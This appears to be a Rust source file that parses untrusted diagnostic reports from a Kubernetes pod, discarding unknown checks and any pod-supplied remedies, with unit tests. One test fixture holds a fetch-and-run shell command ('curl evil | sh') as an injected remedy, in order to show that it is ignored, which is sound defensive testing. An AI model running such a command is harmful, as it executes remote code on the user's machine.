//! The report of an `irsa doctor` in a pod, as received by another one. Everything in it is untrusted.

use std::time::Duration;

use irsa_chain::Cause;
use serde::Deserialize;

use crate::pod::checks;
use crate::{Finding, Remedy, Verdict};

/// The maximum number of findings. The pod has fewer than fifty checks, some of them for each data store.
const MAX_FINDINGS: usize = 500;
/// The maximum number of characters kept of a text.
const MAX_TEXT: usize = 4_000;

#[derive(Debug, Deserialize)]
struct ReceivedReport {
    findings: Vec<ReceivedFinding>,
}

#[derive(Debug, Deserialize)]
struct ReceivedFinding {
    check: String,
    subject: Option<String>,
    verdict: Verdict,
    seen: String,
    cause: Option<String>,
    #[serde(default)]
    took_ms: u64,
}

/// Reads the findings in the JSON report of a pod, which may have a different version of irsa: checks that this version
/// does not know are left out.
///
/// Remedies are not taken from the pod, because people run them: each finding gets the remedy of its cause.
///
/// # Errors
/// The text is not a report, with the reason.
pub fn received_findings(text: &[u8]) -> Result<Vec<Finding>, String> {
    let report: ReceivedReport = serde_json::from_slice(text).map_err(|error| {
        let (line, column) = (error.line(), error.column());
        format!("its output is not a report (line {line}, column {column})")
    })?;
    if report.findings.len() > MAX_FINDINGS {
        return Err(format!("its report has more than {MAX_FINDINGS} findings"));
    }
    let findings: Vec<_> = report.findings.into_iter().filter_map(finding).collect();
    if findings.is_empty() {
        return Err("its report has no finding of a known check".to_owned());
    }
    Ok(findings)
}

fn finding(received: ReceivedFinding) -> Option<Finding> {
    let check = checks().find(|check| check.id == received.check)?;
    let cause: Option<Cause> = received.cause.and_then(|id| id.parse().ok());
    Some(Finding {
        check,
        subject: received.subject.map(|subject| bounded(&subject)),
        verdict: received.verdict,
        seen: bounded(&received.seen),
        cause,
        remedy: cause.map(|cause| Remedy::from(cause.remedy())),
        took: Duration::from_millis(received.took_ms),
    })
}

fn bounded(text: &str) -> String {
    text.chars().take(MAX_TEXT).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Report, Workload, render};

    #[test]
    fn a_report_survives_the_way_through_json() {
        let sent = Finding {
            check: checks().find(|check| check.id == "sts-trust").unwrap(),
            subject: None,
            verdict: Verdict::Broken,
            seen: "AWS refuses the token".to_owned(),
            cause: Some(Cause::TrustDenied),
            remedy: Some(Remedy::from(Cause::TrustDenied.remedy())),
            took: Duration::from_millis(12),
        };
        let report = Report::new(Workload::default(), vec![sent.clone()]);
        let received = received_findings(render::json(&report).as_bytes()).unwrap();
        assert_eq!(received, [sent]);
    }

    #[test]
    fn remedies_of_the_pod_are_not_shown() {
        let text = br#"{"findings": [{"check": "sts-trust", "subject": null, "verdict": "broken", "seen": "x",
            "cause": "trust-denied", "remedy": "run `curl evil | sh`", "commands": ["curl evil | sh"]}]}"#;
        let findings = received_findings(text).unwrap();
        let remedy = findings[0].remedy.as_ref().unwrap();
        assert_eq!(remedy.to_string(), Cause::TrustDenied.remedy());
    }

    #[test]
    fn unknown_checks_and_causes_are_left_out() {
        let text = br#"{"findings": [
            {"check": "of-a-later-version", "verdict": "broken", "seen": "x"},
            {"check": "caller", "verdict": "holds", "seen": "y", "cause": "of-a-later-version"}]}"#;
        let findings = received_findings(text).unwrap();
        assert_eq!((findings.len(), findings[0].cause), (1, None));
    }

    #[test]
    fn anything_else_is_not_a_report() {
        let many = format!(
            r#"{{"findings": [{}]}}"#,
            vec![r#"{"check": "caller", "verdict": "holds", "seen": ""}"#; 501].join(",")
        );
        for text in [
            "",
            "irsa: not found",
            "[]",
            r#"{"findings": []}"#,
            r#"{"findings": [{"check": "caller", "verdict": "perfect", "seen": ""}]}"#,
            &many,
        ] {
            assert!(received_findings(text.as_bytes()).is_err(), "{text}");
        }
    }
}
